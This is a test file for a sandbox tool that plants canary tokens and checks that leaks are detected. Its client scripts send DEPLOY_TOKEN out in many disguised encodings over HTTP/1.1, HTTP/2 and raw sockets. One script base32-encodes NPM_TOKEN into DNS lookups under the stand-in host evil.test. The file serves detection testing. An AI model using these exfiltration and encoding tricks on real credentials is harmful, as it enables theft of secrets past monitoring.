"""Values of canaries in what leaves: requests over HTTP/1.1 and HTTP/2, streams, names, and the
places that hold such values beside files: variables and git remotes."""
import json
import os
import shutil
import sys

from harness import by_turns
from harness.boxes import box, listed
from harness.world import HERE, World, serve, trusted_world

from run.test_canary import touches
from run.test_scan_requests import PORT, PORT2, SERVER

CLIENT = r"""
import base64, gzip, http.client, json, os, ssl, sys, time, urllib.parse
value = os.environ["DEPLOY_TOKEN"]
half = len(value) // 2
def ask(name, path="/x", body="x", headers=None, chunks=None):
    c = http.client.HTTPSConnection("web.test", 9451, timeout=30,
                                    context=ssl.create_default_context())
    try:
        c.request("POST", path, iter(chunks) if chunks else body, headers or {},
                  encode_chunked=bool(chunks))
        r = c.getresponse()
        said = r.read().decode(errors="replace")
        print(json.dumps([name, r.status, json.loads(said)["reason"] if r.status >= 400 else ""]),
              flush=True)
    except OSError as error:
        print(json.dumps([name, 0, type(error).__name__]), flush=True)
ways = {
    "clean": lambda: ask("clean", body="nothing of it " * 5000),
    "body": lambda: ask("body", body="see " + value),
    "capitals": lambda: ask("capitals", body=value.upper()),
    "json": lambda: ask("json", body=json.dumps({"t": "".join("\\u%04x" % ord(c) for c in value)})
                        .replace("\\\\u", "\\u")),
    "url": lambda: ask("url", body="a=" + "".join("%%%02X" % ord(c) for c in value)),
    "base64": lambda: ask("base64", body=base64.b64encode(b"user:" + value.encode() + b"\n")),
    "lines": lambda: ask("lines", body=base64.encodebytes(b"x" * 50 + value.encode())),
    "base32": lambda: ask("base32", body=base64.b32encode(b"ab" + value.encode())),
    "hex": lambda: ask("hex", body=value.encode().hex()),
    "back": lambda: ask("back", body=value[::-1]),
    "dotted": lambda: ask("dotted", body=".".join(value)),
    "wide": lambda: ask("wide", body=value.encode("utf-16-le")),
    "gzip": lambda: ask("gzip", body=gzip.compress(b"text " * 100 + value.encode()),
                        headers={"Content-Encoding": "gzip"}),
    "chunks": lambda: ask("chunks", chunks=[value[:half].encode(), value[half:].encode()],
                          headers={"Transfer-Encoding": "chunked"}),
    "field": lambda: ask("field", headers={"X-Note": value}),
    "login": lambda: ask("login", headers={"Authorization": "Basic " + base64.b64encode(
        b"deploy:" + value.encode()).decode()}),
    "target": lambda: ask("target", path="/x?q=" + urllib.parse.quote(value)),
}
ways["wait"] = lambda: time.sleep(30)
for name in sys.argv[1:]:
    ways[name]()
"""
CLIENT2 = r"""
const http2 = require('http2');
const value = process.env.DEPLOY_TOKEN, session = http2.connect('https://web.test:9452');
session.on('error', e => console.log(JSON.stringify(['session', 0, e.code])));
function ask(name, headers, pieces, trailers) {
    return new Promise(resolve => {
        const stream = session.request({ ':method': 'POST', ':path': '/x', ...headers },
                                       { waitForTrailers: !!trailers });
        let status = 0, said = '';
        stream.on('response', h => status = h[':status']);
        stream.on('wantTrailers', () => stream.sendTrailers(trailers));
        stream.on('data', d => said += d);
        stream.on('error', () => 0);
        stream.on('close', () => {
            let reason = '';
            try { reason = JSON.parse(said).reason || ''; } catch (e) { }
            console.log(JSON.stringify([name, status, reason]));
            resolve();
        });
        pieces.forEach(p => stream.write(p));
        stream.end();
    });
}
(async () => {
    await ask('clean', {}, ['x'.repeat(100000)]);
    await ask('plain trailers', {}, ['x'], { 'x-sum': 'abc' });
    await ask('body', {}, ['see ', Buffer.from(value).toString('base64')]);
    await ask('field', { 'x-note': value }, ['x']);
    await ask('target', { ':path': '/x/' + value }, ['x']);
    await ask('trailers', {}, ['x'], { 'x-sum': value });
    await ask('after', {}, ['x']);
    session.close();
})();
"""
WAYS = ["body", "capitals", "json", "url", "base64", "lines", "base32", "hex", "back", "dotted",
        "wide", "gzip", "chunks", "field", "login", "target"]


def rules(t, port, mode="inspect", **canary):
    d = t.fresh_dir("policy")
    t.write(d, {"ward.json": json.dumps({
        "version": 1, "canary": canary, "network": {"mode": "restricted", "egress_allowlist": [
            {"host": "web.test", "ports": [port], "mode": mode}]}})})
    return os.path.join(d, "ward.json")


def start(t):
    world = trusted_world(t)
    t.write(world.dir, {"server.py": SERVER, "seen": ""})
    serve(t, world, [sys.executable, os.path.join(world.dir, "server.py"), world.certificates,
                     os.path.join(world.dir, "seen"), str(PORT)], PORT)
    return world


def answers(r):
    return {name: (status, reason) for name, status, reason in map(json.loads, r.out.splitlines())}


def test_freeze(t):
    """The first request with a value stops the sandbox, and has not left."""
    world = start(t)
    ws = t.workspace({"client.py": CLIENT})
    file = rules(t, PORT, variables=["DEPLOY_TOKEN"], do="kill")
    r = world.ward("run", "-p", file, "--", "/usr/bin/python3", "client.py", "clean", "base64",
                   "wait", cwd=ws, timeout=60)
    t.equal(r.rc, 137, f"it was killed ({r.out} {r.err})")
    t.contains(r.err, "canary DEPLOY_TOKEN ended the run: its value was sent to web.test (body)")
    touched = touches(t, cwd=ws)
    t.equal([(e["object"], e["rule"], e["change"]) for e in touched],
            [("DEPLOY_TOKEN", "canary.variables", "kill")], "the alert")
    there = touched[0].get("chain", []) + touched[0].get("running", [])
    t.check(any("python3" in p for p in there), f"who was there: {touched[0]}")
    seen = t.read(os.path.join(world.dir, "seen"))
    t.check(seen.count("WHOLE") == 1 and "nothing of it" in seen, f"what came: {seen[:300]}")


@by_turns
def test_every_form(t):
    """Each form of the value is found, wherever it stands in a request. With log it passes."""
    world = start(t)
    ws = t.workspace({"client.py": CLIENT})
    file = rules(t, PORT, variables=["DEPLOY_TOKEN"], do="log")
    for way in ["clean", *WAYS]:
        r = world.ward("run", "-p", file, "--", "/usr/bin/python3", "client.py", way, cwd=ws,
                       timeout=60)
        t.equal((r.rc, answers(r)), (0, {way: (200, "")}), f"{way}: {r.err}")
        t.equal([e["object"] for e in touches(t, cwd=ws)],
                [] if way == "clean" else ["DEPLOY_TOKEN"], f"{way} is found")


def test_refused_before_it_leaves(t):
    """With freeze and kill the request itself is refused: nothing with the value arrives."""
    world = start(t)
    ws = t.workspace({"client.py": CLIENT})
    file = rules(t, PORT, variables=["DEPLOY_TOKEN"], do="kill")
    for way in ("body", "field", "gzip", "login"):
        t.write(world.dir, {"seen": ""})
        r = world.ward("run", "-p", file, "--", "/usr/bin/python3", "client.py", way, "wait",
                       cwd=ws, timeout=60)
        t.equal(r.rc, 137, f"{way}: {r.out} {r.err}")
        t.equal(t.read(os.path.join(world.dir, "seen")), "", f"{way} has arrived")


def test_http2(t):
    """The same over HTTP/2, also in fields behind a body."""
    node = shutil.which("node")
    if not node:
        t.skip("no node")
    world = trusted_world(t)
    t.write(world.dir, {"seen": ""})
    serve(t, world, [node, os.path.join(HERE, "keys_h2_server.js"), world.certificates,
                     str(PORT2), os.path.join(world.dir, "seen")], PORT2)
    ws = t.workspace({"client.js": CLIENT2})
    file = rules(t, PORT2, variables=["DEPLOY_TOKEN"], do="log")
    r = world.ward("run", "-p", file, "--", node, "client.js", cwd=ws, timeout=60)
    t.equal((r.rc, {k: s for k, (s, _) in answers(r).items()}),
            (0, dict.fromkeys(("clean", "plain trailers", "body", "field", "target", "trailers",
                               "after"), 200)), r.err)
    shown = t.ward("audit", "show", "--json", cwd=ws).out
    found = [e["path"] for e in map(json.loads, shown.splitlines())
             if e["kind"] == "credential.found" and e["object"] == "canary DEPLOY_TOKEN"]
    t.equal(found, ["body", "head", "head", "trailers"], "each was seen")


def test_stream(t):
    """A protocol that nobody reads is looked through as it passes."""
    world = World(t)
    ws = t.workspace({"send.py": r'''
import os, socket, sys, time
s = socket.create_connection(("db.test", 5432), 20)
s.sendall(b"hello"); s.recv(5)
for part in (b"x" * 300000, os.environ["DEPLOY_TOKEN"][:9].encode()):
    s.sendall(part)
time.sleep(0.3)
s.sendall(os.environ["DEPLOY_TOKEN"][9:].encode())
time.sleep(30)
'''})
    d = t.fresh_dir("policy")
    t.write(d, {"ward.json": json.dumps({
        "version": 1, "canary": {"variables": ["DEPLOY_TOKEN"], "do": "kill"},
        "network": {"mode": "restricted", "egress_allowlist": ["db.test:5432"]}})})
    r = world.ward("run", "-p", os.path.join(d, "ward.json"), "--", "/usr/bin/python3", "send.py",
                   cwd=ws, timeout=60)
    t.equal(r.rc, 137, f"{r.out} {r.err}")
    t.contains(r.err, "canary DEPLOY_TOKEN ended the run: its value was sent to db.test (stream)")


def test_variables(t):
    """They read like what they stand for, differ from run to run, and are seen in names and words
    in other forms, too."""
    ws = t.workspace({"leak.py": """
import base64, os, socket
name = base64.b32encode(os.environ["NPM_TOKEN"].encode()).decode().strip("=").lower()
try: socket.getaddrinfo(name[:30] + "." + name[30:60] + ".evil.test", 1)
except OSError: pass
"""})
    d = t.fresh_dir("policy")
    t.write(d, {"ward.json": json.dumps({"version": 1, "audit": {"level": "exec"}, "canary": {
        "variables": ["AWS_ACCESS_KEY_ID", "NPM_TOKEN", "MY_SECRET"], "do": "log"}})})
    file = os.path.join(d, "ward.json")
    seen = [t.ward("run", "-p", file, "--", "env", cwd=ws).out for _ in range(2)]
    values = [dict(line.split("=", 1) for line in out.splitlines() if "=" in line) for out in seen]
    for v in values:
        t.check(v["AWS_ACCESS_KEY_ID"].startswith("AKIA") and v["NPM_TOKEN"].startswith("npm_") and
                len(v["MY_SECRET"]) == 40, f"{v}")
    t.check(values[0]["MY_SECRET"] != values[1]["MY_SECRET"], "every run has its own")
    t.equal(touches(t, cwd=ws), [], "to show them is not to send them")
    r = t.ward("run", "-p", file, "--", "/usr/bin/python3", "leak.py", cwd=ws)
    t.equal((r.rc, [e["object"] for e in touches(t, cwd=ws)]), (0, ["NPM_TOKEN"]), r.err)
    r = t.ward("run", "-p", file, "--", "sh", "-c", "/bin/true $(printf %s $MY_SECRET | base64)",
               cwd=ws)
    t.equal((r.rc, [e["object"] for e in touches(t, cwd=ws)]), (0, ["MY_SECRET"]), r.err)


def test_git_remote(t):
    """git knows the remote, the workspace's files do not; its first use freezes."""
    ws = t.workspace()
    t.run("git", "init", "-q", cwd=ws)
    d = t.fresh_dir("policy")
    t.write(d, {"ward.json": json.dumps({"version": 1, "canary": {
        "git_remotes": ["backup=https://git.corp.test/ops/deploy.git"]}})})
    file = os.path.join(d, "ward.json")
    r = t.ward("run", "-p", file, "--", "git", "remote", "-v", cwd=ws)
    t.contains(r.out, "backup\thttps://deploy:")
    t.contains(r.out, "@git.corp.test/ops/deploy.git (push)")
    t.equal((r.rc, touches(t, cwd=ws)), (0, []), r.err)
    t.check("corp.test" not in t.read(ws, ".git/config"), "nothing was written")
    one = box(t, "-p", file, "--", "sh", "-c", "git fetch backup; sleep 30", cwd=ws)
    t.wait_until(lambda: listed(t)[one]["state"] == "paused", 20, "it is not frozen")
    t.check("canary.git_remotes" in {e["rule"] for e in touches(t, one)}, "the alert")


def test_refused(t):
    ws = t.workspace()
    for canary, more, said in (
            ({"variables": ["A B"]}, [], "canary.variables"),
            ({"variables": ["TZ"]}, ["TZ=UTC"], "the variable TZ is set already"),
            ({"git_remotes": ["x"]}, [], "NAME=https://HOST/PATH"),
            ({"git_remotes": ["x=http://h/p"]}, [], "NAME=https://HOST/PATH"),
            ({"git_remotes": ["x=https://u@h/p"]}, [], "NAME=https://HOST/PATH"),
            ({"git_remotes": ["x=https://h/p"]}, ["GIT_CONFIG_COUNT=0"],
             "GIT_CONFIG_COUNT is set already")):
        d = t.fresh_dir("policy")
        t.write(d, {"ward.json": json.dumps({"version": 1, "canary": canary,
                                            "process": {"env": more}})})
        r = t.ward("run", "-p", os.path.join(d, "ward.json"), "--", "touch", "began", cwd=ws)
        t.check(r.rc == 125 and said in r.err, f"{canary}: {r.rc} {r.err}")
    t.equal(t.read(ws, "began"), None, "nothing was started")
